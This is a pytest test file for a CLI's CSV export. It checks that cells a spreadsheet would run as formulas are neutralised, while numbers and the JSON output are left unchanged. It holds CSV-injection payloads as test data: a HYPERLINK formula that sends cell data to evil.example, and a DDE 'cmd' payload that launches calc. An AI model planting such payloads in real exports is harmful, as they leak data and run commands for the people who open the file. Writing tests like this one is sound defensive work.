"""CSV exports for people neutralise cells a spreadsheet would run as formulas (#15): what anyone
on the internet sends (user agent, referer, Accept-Language, txn_id) and what lists bring (merge
fields) start no cell with = + - @ tab or CR, while plain numbers (E.164 phones, negative
amounts) stay as they are. JSON stays raw."""

from __future__ import annotations

import csv
import io
import json

import pytest
from conftest import HUMAN_HEADERS

from trackly_cli.output import csv_cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
EVIL_UA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL_UA, "'" + EVIL_UA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+12025550143", "+12025550143"),
        ("-12.50", "-12.50"),
        ("42", "42"),
        (-3, "-3"),
        ("Mozilla/5.0", "Mozilla/5.0"),
        ("", ""),
        ("-", "-"),
        (None, ""),
    ],
)
def test_a_csv_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(value, expected):
    assert csv_cell(value) == expected


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_safe(text: str) -> None:
    for value in cells(text):
        if value.startswith(FORMULA_START):
            assert value.lstrip("+-").replace(".", "", 1).isdigit(), value


def test_every_export_for_people_is_safe_to_open(acme, campaign, webapp, db_path, tmp_path):
    app = webapp()
    link = campaign["by_slot"]["link1"][0]
    hostile = {
        "User-Agent": EVIL_UA,
        "Referer": "+cmd|' /C calc'!A0",
        "Accept-Language": "@SUM(1+1)",
    }
    app.get(f"/{link['id']}", headers={**HUMAN_HEADERS, **hostile})
    app.get(f"/conv?link_id={link['id']}&txn_id=-2%2B3&revenue=5", headers=HUMAN_HEADERS)
    secret = acme.json("offer", "show", "Summer Sale")["postback_secret"]
    app.get(
        f"/conv?link_id={link['id']}&txn_id=-2%2B3&event=refund&postback_secret={secret}",
        headers=HUMAN_HEADERS,
    )
    (tmp_path / "evil.csv").write_text(
        "phone,first_name,note\n+12025550199,=1+1,@evil\n", encoding="utf-8"
    )
    acme("contacts", "import", "vip", tmp_path / "evil.csv")

    clicks = acme("clicks", "--format", "csv").stdout
    assert "'" + EVIL_UA in cells(clicks)
    assert "'+cmd|' /C calc'!A0" in cells(clicks)
    conversions = acme("conversions", "--format", "csv").stdout
    assert "'-2+3" in cells(conversions)
    assert "-5.00" in cells(conversions)  # a refund's negative amount is a number, as it was
    contacts = acme("contacts", "list", "--format", "csv").stdout
    assert "+12025550199" in cells(contacts)  # phones stay numbers
    assert any("=1+1" in c for c in cells(contacts))
    exports = [
        clicks,
        conversions,
        contacts,
        acme("segment", "spring", "--clicked", "--format", "csv").stdout,
        acme("report", "--by", "campaign", "--format", "csv").stdout,
        acme("report", "--by", "day", "--format", "csv").stdout,
    ]
    out = tmp_path / "clicks.csv"
    acme("clicks", "-o", out)
    exports.append(out.read_text(encoding="utf-8"))
    for text in exports:
        assert_safe(text)

    # JSON stays raw: the exact values, for programs
    (raw,) = [c for c in acme.json("clicks") if c["user_agent"] == EVIL_UA]
    assert raw["referer"] == "+cmd|' /C calc'!A0"
    assert {c["txn_id"] for c in acme.json("conversions")} == {"-2+3"}
    assert json.loads(acme("contacts", "list", "--format", "json").stdout)
